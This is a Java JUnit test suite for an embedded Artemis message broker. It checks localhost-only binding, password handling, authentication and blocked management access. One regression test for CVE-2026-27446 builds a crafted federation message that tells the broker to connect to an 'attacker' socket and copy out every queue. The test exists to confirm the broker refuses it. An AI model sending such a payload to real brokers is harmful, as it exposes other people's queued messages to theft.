package io.rechargeroutes.launch.embedded;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.rechargeroutes.broker.BrokerClients;
import io.rechargeroutes.broker.BrokerSettings;
import io.rechargeroutes.it.Application;
import io.rechargeroutes.launch.check.StartException;
import io.rechargeroutes.settings.MessagingSettings;
import io.rechargeroutes.settings.ShippedSettings;
import io.rechargeroutes.settings.TypedSettings;
import io.smallrye.config.SysPropConfigSource;
import jakarta.jms.Connection;
import jakarta.jms.JMSException;
import jakarta.jms.JMSSecurityException;
import jakarta.jms.Session;
import jakarta.jms.TextMessage;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.Map;
import java.util.Optional;
import org.apache.activemq.artemis.api.core.QueueConfiguration;
import org.apache.activemq.artemis.api.core.TransportConfiguration;
import org.apache.activemq.artemis.api.core.client.ActiveMQClient;
import org.apache.activemq.artemis.api.core.client.ClientSession;
import org.apache.activemq.artemis.api.core.client.ClientSessionFactory;
import org.apache.activemq.artemis.api.core.client.ServerLocator;
import org.apache.activemq.artemis.core.config.federation.FederationDownstreamConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration;
import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl.CHANNEL_ID;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.FederationDownstreamConnectMessage;
import org.apache.activemq.artemis.core.remoting.impl.netty.NettyConnectorFactory;
import org.eclipse.microprofile.config.Config;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Who may use the embedded broker, and what nobody may make it do. */
class EmbeddedBrokerTest {

    private static final Duration SOON = Duration.ofSeconds(10);

    @TempDir
    Path data;

    private final int port = Application.freePort();

    @BeforeEach
    @AfterEach
    void noUserIsSet() {
        System.clearProperty("recharge.broker.username");
        System.clearProperty("recharge.broker.password");
    }

    private Config config(String scheme) {
        return ShippedSettings.with(
                Map.of("recharge.data", data.toString(), "recharge.broker.url", scheme + "://localhost:" + port),
                new SysPropConfigSource());
    }

    private static BrokerSettings broker(Config config) {
        return BrokerSettings.of(
                TypedSettings.of(config, MessagingSettings.class).broker());
    }

    @ParameterizedTest
    @ValueSource(strings = {"tcp://broker.example.invalid:61616", "tcp://localhost"})
    void addressThatIsNotAPortOfThisHost_isRefused(String url) {
        Config config = ShippedSettings.with(Map.of("recharge.data", data.toString(), "recharge.broker.url", url));
        String refused = assertThrows(StartException.class, () -> EmbeddedBroker.start(config, false))
                .getMessage();
        assertTrue(refused.contains("listens on this host alone"), refused);
    }

    private BrokerSettings settings(String scheme, String username, String password) {
        return new BrokerSettings(
                scheme + "://localhost:" + port,
                Optional.ofNullable(username),
                Optional.ofNullable(password),
                50,
                Optional.empty(),
                Optional.empty());
    }

    private static void sendAndTake(BrokerSettings settings) throws JMSException {
        try (Connection connection = BrokerClients.of(settings).createConnection()) {
            connection.start();
            Session session = connection.createSession(Session.AUTO_ACKNOWLEDGE);
            session.createProducer(session.createQueue("q")).send(session.createTextMessage("hello"));
            TextMessage taken = (TextMessage)
                    session.createConsumer(session.createQueue("q")).receive(SOON.toMillis());
            assertEquals("hello", taken.getText());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"tcp", "amqp"})
    void withoutAUser_oneIsMade_andNobodyElseComesIn(String scheme) throws Exception {
        Config config = config(scheme);
        try (EmbeddedBroker broker = EmbeddedBroker.start(config, false)) {
            assertTrue(broker.toString().length() > 0);
            sendAndTake(broker(config));
            Path password = data.resolve("broker.password");
            assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(password)));
            sendAndTake(settings(scheme, "recharge", Files.readString(password)));
            assertThrows(JMSSecurityException.class, () -> sendAndTake(settings(scheme, "recharge", "guess")));
            assertThrows(JMSException.class, () -> sendAndTake(settings(scheme, null, null)));
        }
    }

    @Test
    void generatedPassword_nextStart_isTheSame() throws Exception {
        EmbeddedBroker.start(config("tcp"), false).close();
        String first = Files.readString(data.resolve("broker.password"));
        noUserIsSet();
        Config config = config("tcp");
        try (EmbeddedBroker again = EmbeddedBroker.start(config, false)) {
            assertFalse(again.toString().contains(first));
            assertEquals(Optional.of(first), broker(config).password());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"tcp", "amqp"})
    void sandbox_withoutAUser_letsEveryLocalClientIn(String scheme) throws Exception {
        try (EmbeddedBroker broker = EmbeddedBroker.start(config(scheme), true)) {
            sendAndTake(settings(scheme, null, null));
            sendAndTake(settings(scheme, "whoever", "whatever"));
            assertFalse(Files.exists(data.resolve("broker.password")), broker.toString());
        }
    }

    /**
     * CVE-2026-27446: a client asks the broker to connect to a broker of its choice, and to hand over what its queues
     * hold.
     */
    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void coreFederation_isRefused_andNoConnectionIsMade(boolean sandbox) throws Exception {
        Config config = config("tcp");
        try (EmbeddedBroker broker = EmbeddedBroker.start(config, sandbox);
                ServerSocketChannel attacker =
                        ServerSocketChannel.open().bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
                ServerLocator locator =
                        ActiveMQClient.createServerLocator("tcp://localhost:" + port + "?reconnectAttempts=0");
                ClientSessionFactory clients = locator.createSessionFactory();
                ClientSession session = session(clients, broker(config))) {
            assertTrue(broker.toString().length() > 0);
            attacker.configureBlocking(false);
            session.createQueue(QueueConfiguration.of("q"));
            session.createConsumer("q");
            CoreRemotingConnection connection = (CoreRemotingConnection) clients.getConnection();
            connection
                    .getChannel(CHANNEL_ID.FEDERATION.id, -1)
                    .send(downstream(((InetSocketAddress) attacker.getLocalAddress()).getPort()));
            await("the connection is closed, or the broker connects")
                    .atMost(SOON)
                    .until(() -> connection.isDestroyed() || attacker.accept() != null);
            assertTrue(connection.isDestroyed(), "the broker connects to whoever asks for it");
            assertNull(attacker.accept());
        }
    }

    private static ClientSession session(ClientSessionFactory clients, BrokerSettings own) throws Exception {
        return clients.createSession(
                own.username().orElse(null), own.password().orElse(null), false, true, true, false, 1);
    }

    private static FederationDownstreamConnectMessage downstream(int port) {
        FederationDownstreamConnectMessage message = new FederationDownstreamConnectMessage();
        message.setName("stolen");
        message.setFederationPolicyMap(Map.of(
                "all",
                new FederationQueuePolicyConfiguration()
                        .setName("all")
                        .addInclude(new FederationQueuePolicyConfiguration.Matcher()
                                .setQueueMatch("#")
                                .setAddressMatch("#"))));
        FederationDownstreamConfiguration stream =
                new FederationDownstreamConfiguration().setName("stolen").addPolicyRef("all");
        stream.setUpstreamConfiguration(new TransportConfiguration(
                NettyConnectorFactory.class.getName(), Map.of("host", "127.0.0.1", "port", port), "there"));
        message.setStreamConfiguration(stream);
        return message;
    }

    /** The management address could make it connect as well: bridges, connectors. */
    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void management_isForNobody(boolean sandbox) throws Exception {
        Config config = config("tcp");
        try (EmbeddedBroker broker = EmbeddedBroker.start(config, sandbox);
                Connection connection = BrokerClients.of(broker(config)).createConnection()) {
            Session session = connection.createSession(Session.AUTO_ACKNOWLEDGE);
            assertThrows(
                    JMSException.class,
                    () -> session.createProducer(session.createQueue("activemq.management"))
                            .send(session.createTextMessage("[]")),
                    broker.toString());
        }
    }
}
